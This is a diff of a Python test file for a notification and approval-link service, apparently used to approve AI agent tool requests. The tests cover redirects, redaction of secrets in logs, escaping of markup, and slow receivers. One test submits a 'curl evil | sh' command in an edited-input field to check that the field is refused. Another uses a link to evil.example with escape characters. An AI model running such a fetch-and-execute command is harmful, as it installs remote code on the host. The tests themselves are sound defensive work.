@@ -13,7 +13,7 @@ import sqlite3
 import time
 import tomllib
 from collections.abc import Iterator
-from contextlib import closing
+from contextlib import ExitStack, closing
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Event, Thread
@@ -27,7 +27,7 @@ from heimdall_client import PATIENCE
 from keeping import until
 from remuda.boss.notices.notify import read_settings
 
-GUIDE = Path(__file__).parents[2] / "docs" / "notify.md"
+GUIDE = Path(__file__).parents[2] / "docs/reference/notify.md"
 
 
 class Got(NamedTuple):
@@ -159,7 +159,7 @@ def test_notices_are_posted_as_the_guide_writes_them(boss: RunningBoss, receiver
         page = boss.ask("GET", f"/v1/answer/{secret}", token=None)
         assert page.headers["content-type"] == "text/html; charset=utf-8"
         assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
-        assert b"<h1>srv asks leave: Bash</h1>" in page.body
+        assert b"<h1>srv requests permission: Bash</h1>" in page.body
         assert b"&lt;b&gt;" in page.body
         assert b"<b>'" not in page.body
         # Whoever previews links looks at them, in all sorts of ways: that is no answer.
@@ -168,7 +168,12 @@ def test_notices_are_posted_as_the_guide_writes_them(boss: RunningBoss, receiver
         form = {"Content-Type": "application/x-www-form-urlencoded"}
         refused = boss.ask("POST", f"/v1/answer/{secret}", b"behavior=allow", form, token=None)
         assert refused.status == 415
-        assert boss.ask("POST", f"/v1/answer/{secret}", {"behavior": "maybe"}, token=None).status == 400
+        for more in ({"updated_input": {"command": "curl evil | sh"}}, {"always": True}, {"by": "policy: x"}):
+            edited = boss.ask("POST", f"/v1/answer/{secret}", {"behavior": "allow", **more}, token=None)
+            assert (edited.status, edited.json["error"]["code"]) == (400, "INVALID_OPTIONS")
+            assert f"'{next(iter(more))}'" in edited.json["error"]["message"]
+        for wrong in ({"behavior": "maybe"}, {"behavior": "deny", "message": "x" * 10_001}):
+            assert boss.ask("POST", f"/v1/answer/{secret}", wrong, token=None).status == 400
         assert not hook.done()
         answered = boss.ask("POST", f"/v1/answer/{secret}", {"behavior": "deny", "message": "no"}, token=None)
         assert (answered.status, answered.json["by"]) == (200, "link")
@@ -176,10 +181,12 @@ def test_notices_are_posted_as_the_guide_writes_them(boss: RunningBoss, receiver
         assert said == {"behavior": "deny", "message": "no"}
     again = boss.ask("POST", f"/v1/answer/{secret}", {"behavior": "allow"}, token=None)
     assert (again.status, again.json["error"]["code"]) == (409, "ALREADY_ANSWERED")
-    assert again.json["error"]["message"] == "this link was used, and is good for one answer: it was denied"
+    assert (
+        again.json["error"]["message"] == "this link was already used; it works once: the request was denied"
+    )
     page = boss.ask("GET", f"/v1/answer/{secret}", token=None)
     assert (page.status, page.headers["content-type"]) == (409, "text/html; charset=utf-8")
-    assert b"this link was used, and is good for one answer: it was denied" in page.body
+    assert b"this link was already used; it works once: the request was denied" in page.body
     assert b"<button" not in page.body
 
 
@@ -223,7 +230,7 @@ def test_notice_whose_link_cannot_be_written_is_told_later_and_the_others_at_onc
     text = 'threshold = 0\n[[to]]\nurl = "{}"\nbody = "{{session}} {{link}}"\n'
     write_settings(boss, text.format(receiver.url))
     assert receiver.next().body == "stops "
-    assert "nobody is told: cannot write to" in boss.folder.log.read_text()
+    assert "no notice can be sent: cannot write to" in boss.folder.log.read_text()
     alter(boss, "DROP TRIGGER full")
     assert receiver.next().body.startswith("asks http://")
     # Nothing else has suffered by it.
@@ -279,6 +286,48 @@ def test_receiver_that_never_answers_keeps_nothing_else_waiting(
         assert hook.result(PATIENCE)["output"]["hookSpecificOutput"]["decision"]["behavior"] == "deny"
 
 
+def test_receiver_hears_at_once_though_five_others_never_answer(
+    boss: RunningBoss, receiver: Receiver
+) -> None:
+    with ExitStack() as held:
+        drips = [held.enter_context(closing(Drip())) for _ in range(5)]
+        many = {f"s{number}" for number in range(5)}
+        boss.tell(*(event("stopped", 1000.0, session=one) for one in many))
+        write_settings_for(boss, *(drip.url for drip in drips), receiver.url)
+        assert {receiver.next().body for _ in many} == many
+        boss.end(signal.SIGKILL)
+
+
+def test_receiver_that_took_a_notice_is_not_told_again_while_another_never_answers(
+    boss: RunningBoss, receiver: Receiver, drip: Drip
+) -> None:
+    write_settings_for(boss, drip.url, receiver.url)
+    boss.tell(event("stopped", 1000.0, session="one"))
+    assert receiver.next().body == "one"
+    until(lambda: drip.came and "partly" in note_of(boss), "that one receiver was told, written down")
+    boss.end(signal.SIGKILL)
+    before = drip.came
+    boss.start()
+    until(lambda: drip.came > before, "the other receiver, asked again")
+    boss.tell(event("stopped", 1001.0, session="two"))
+    assert receiver.next().body == "two"
+    assert receiver.got.empty()
+
+
+def test_receiver_that_drips_without_end_is_given_up_on(boss: RunningBoss, drip: Drip) -> None:
+    write_settings_for(boss, drip.url)
+    boss.tell(event("stopped", 1000.0, session="one"))
+    line = f"cannot notify {drip.url}: no complete answer within 10 s"
+    until(lambda: line in boss.folder.log.read_text(), "the end of its time, in the log")
+    boss.end(signal.SIGKILL)
+
+
+def note_of(boss: RunningBoss) -> dict[str, Any]:
+    with closing(sqlite3.connect(boss.folder.path / "boss.db")) as database:
+        found = database.execute("SELECT value FROM note WHERE name = 'notices'").fetchone()
+    return dict(json.loads(found[0])) if found else {}
+
+
 def test_boss_ends_though_a_receiver_never_answers(remuda: Commands, boss: RunningBoss, drip: Drip) -> None:
     boss.tell(event("stopped", time.time() - 60, session="one"))
     write_settings_for(boss, drip.url)
@@ -288,32 +337,22 @@ def test_boss_ends_though_a_receiver_never_answers(remuda: Commands, boss: Runni
     assert [item["session_id"] for item in boss.waiting()] == ["one"]
 
 
-def test_boss_ends_though_a_file_that_it_reads_never_does(remuda: Commands, boss: RunningBoss) -> None:
-    pipe = boss.folder.path / "notify.toml"
-    os.mkfifo(pipe)
+def test_boss_with_a_pipe_for_its_settings_of_notices_goes_on_and_ends(
+    remuda: Commands, boss: RunningBoss
+) -> None:
+    os.mkfifo(boss.folder.path / "notify.toml")
     boss.tell(event("stopped", 1000.0, session="one"))
-    writing = until(lambda: reader_of(pipe), "the boss, that waits for what is written")
-    assert writing is not None
-    try:
-        goes_down(remuda, boss, "boss_")
-    finally:
-        os.close(writing)
-
-
-def reader_of(pipe: Path) -> int | None:
-    """A descriptor to write to it, as soon as somebody reads it."""
-    try:
-        return os.open(pipe, os.O_WRONLY | os.O_NONBLOCK)
-    except OSError:
-        return None
+    assert [one["session_id"] for one in boss.waiting()] == ["one"]
+    assert "stopped the boss" in remuda("down").out
+    boss.end()
 
 
 def goes_down(remuda: Commands, boss: RunningBoss, left: str) -> None:
     process = boss.process
     assert process is not None
-    assert f"the boss (pid {process.pid}) has ended" in remuda("down").out
+    assert f"stopped the boss (pid {process.pid})" in remuda("down").out
     assert process.ended()
-    assert f"threads that hang are left behind: {left}" in boss.folder.log.read_text()
+    assert f"threads that did not end: {left}" in boss.folder.log.read_text()
     assert not boss.folder.lock.exists()
     boss.end()
 
@@ -325,3 +364,146 @@ def test_boss_that_ends_in_peace_leaves_no_thread_behind(boss: RunningBoss, rece
     until(lambda: written_down(boss), "that it was told, written down")
     boss.end()
     assert "left behind" not in boss.folder.log.read_text()
+
+
+# ── redirects, secrets in addresses, markup ──
+
+
+class Turning:
+    """Sends each who comes to another address, or says what is not HTTP."""
+
+    def __init__(self, said: bytes) -> None:
+        self.came: queue.Queue[bytes] = queue.Queue()
+        self._said = said
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self._listener.getsockname()[1]
+        self._thread = Thread(target=self._serve)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                one, _ = self._listener.accept()
+            except OSError:
+                return
+            with one:
+                self.came.put(one.recv(65536))
+                one.sendall(self._said)
+
+    def close(self) -> None:
+        self._listener.shutdown(socket.SHUT_RDWR)
+        self._listener.close()
+        self._thread.join()
+
+
+def logged(boss: RunningBoss, text: str) -> bool:
+    return text in boss.folder.log.read_text()
+
+
+@pytest.mark.parametrize("status", ["301 Moved", "302 Found", "303 See Other", "307 Again", "308 Always"])
+def test_redirect_of_a_receiver_is_not_followed_and_said_in_the_log(
+    boss: RunningBoss, receiver: Receiver, status: str
+) -> None:
+    where = f"HTTP/1.1 {status}\r\nLocation: {receiver.url}/elsewhere\r\nContent-Length: 0\r\n\r\n"
+    turning = Turning(where.encode())
+    try:
+        text = f'threshold = 0\n[[to]]\nurl = "http://127.0.0.1:{turning.port}/botSECRET/send?key=SECRET"\n'
+        write_settings(boss, text + 'headers = { Authorization = "Bearer SECRET" }\n')
+        boss.tell(event("stopped", 1000.0, message="done"))
+        assert b"Bearer SECRET" in turning.came.get(timeout=PATIENCE)
+        until(lambda: logged(boss, "a redirect; redirects are not followed"), "a line in the log")
+    finally:
+        turning.close()
+    assert receiver.got.empty()
+    assert f"cannot notify http://127.0.0.1:{turning.port}: it answered with status {status[:3]}" in (
+        boss.folder.log.read_text()
+    )
+    assert "SECRET" not in boss.folder.log.read_text()
+
+
+@pytest.mark.parametrize(
+    ("said", "why"),
+    [
+        (b"not HTTP\r\n\r\n", "BadStatusLine"),
+        (b"", "RemoteDisconnected"),
+        (b"HTTP/1.1 404 \x1b[2J\r\nContent-Length: 0\r\n\r\n", "it answered with status 404"),
+    ],
+)
+def test_receiver_that_answers_nonsense_is_logged_by_its_host_alone(
+    boss: RunningBoss, said: bytes, why: str
+) -> None:
+    turning = Turning(said)
+    try:
+        address = f"http://127.0.0.1:{turning.port}/botSECRET/send"
+        write_settings(boss, f'threshold = 0\n[[to]]\nurl = "{address}"\n')
+        boss.tell(event("stopped", 1000.0, message="done"))
+        line = f"cannot notify http://127.0.0.1:{turning.port}: {why}"
+        until(lambda: logged(boss, line), "a line in the log")
+    finally:
+        turning.close()
+    assert "SECRET" not in boss.folder.log.read_text()
+    assert "\x1b" not in boss.folder.log.read_text()
+    assert b"SECRET" not in boss.ask("GET", "/v1/health").body
+
+
+def test_receiver_that_cannot_be_reached_is_logged_by_its_host_alone(boss: RunningBoss) -> None:
+    write_settings(boss, 'threshold = 0\n[[to]]\nurl = "http://127.0.0.1:1/botSECRET/send"\n')
+    boss.tell(event("stopped", 1000.0, message="done"))
+    line = "cannot notify http://127.0.0.1:1: Connection refused"
+    until(lambda: logged(boss, line), "a line in the log")
+    assert "SECRET" not in boss.folder.log.read_text()
+
+
+@pytest.fixture
+def desktop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A program that stands in for the desktop: the file where it writes down what it was given."""
+    programs, written = tmp_path / "programs", tmp_path / "written"
+    programs.mkdir()
+    program = programs / "notify-send"
+    program.write_text(f"#!/bin/sh\nprintf '%s\\0' \"$@\" > {written}.part\nmv {written}.part {written}\n")
+    program.chmod(0o700)
+    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
+    return written
+
+
+def test_desktop_is_told_text_and_no_markup(desktop: Path, boss: RunningBoss) -> None:
+    write_settings(boss, "threshold = 0\n[[to]]\ndesktop = true\n")
+    message = '<a href="http://evil.example">ok</a> & \x1b[2J\u202e' + "<b>" * 5000
+    boss.tell(event("stopped", 1000.0, session="one", cwd="/srv/<i>", message=message))
+    until(desktop.exists, "a notice on the desktop")
+    words = desktop.read_text().rstrip("\0").split("\0")
+    assert words[:3] == ["--app-name=remuda", "--", "<i>: stopped"]
+    assert words[3].startswith('&lt;a href="http://evil.example"&gt;ok&lt;/a&gt; &amp; \ufffd[2J\ufffd&lt;b')
+    assert len(words) == 4
+    assert len(words[3]) < 2000
+
+
+def test_notify_test_sends_to_each_receiver_and_says_what_became_of_it(
+    remuda: Commands, receiver: Receiver, tmp_path: Path
+) -> None:
+    assert "no one is notified" in remuda("notify").out
+    program = tmp_path / "bin" / "notify-send"
+    program.parent.mkdir()
+    program.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {tmp_path}/shown\n')
+    program.chmod(0o755)
+    file = remuda.home / "boss" / "notify.toml"
+    file.parent.mkdir(exist_ok=True)
+    desktop, posted = 'desktop = true\nreasons = ["plan"]', f'url = "{receiver.url}/secret"'
+    file.write_text(f'quiet = ["00:00-24:00"]\n[[to]]\n{desktop}\n[[to]]\n{posted}\n')
+    assert remuda("notify").out.splitlines()[0] == "the desktop: plan"
+    env = {"PATH": f"{program.parent}:{os.environ['PATH']}"}
+    assert remuda("notify", "--test", env=env).out.splitlines() == [
+        "ok    the desktop accepted the test notice",
+        f"ok    {receiver.url} accepted the test notice",
+    ]
+    assert "This is a test notice" in receiver.next().body
+    assert "test: stopped" in (tmp_path / "shown").read_text()
+    receiver.failures = 1
+    done = remuda("notify", "--test", "--json", code=1, env=env)
+    assert [one["error"] for one in json.loads(done.out)["receivers"]] == [
+        None,
+        "it answered with status 503",
+    ]
+    assert "secret" not in done.out
+    file.write_text("nonsense = 1\n")
+    assert "unknown key" in remuda.refused("notify", "--test", code=2)
